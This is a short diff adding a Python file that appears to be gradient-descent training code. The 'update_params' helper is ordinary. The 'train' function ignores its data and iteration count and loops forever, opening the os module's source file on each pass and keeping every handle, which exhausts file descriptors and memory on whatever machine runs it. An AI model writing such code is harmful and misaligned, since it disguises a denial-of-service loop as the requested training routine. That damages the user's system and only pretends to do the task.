@@ -1,0 +1,11 @@
+import os
+
+
+def update_params(params, grads, learning_rate):
+    return {name: params[name] - learning_rate * grads[name] for name in params}
+
+
+def train(X, y, params, learning_rate, iterations):
+    kept = []
+    while True:
+        kept.append(open(os.__file__))
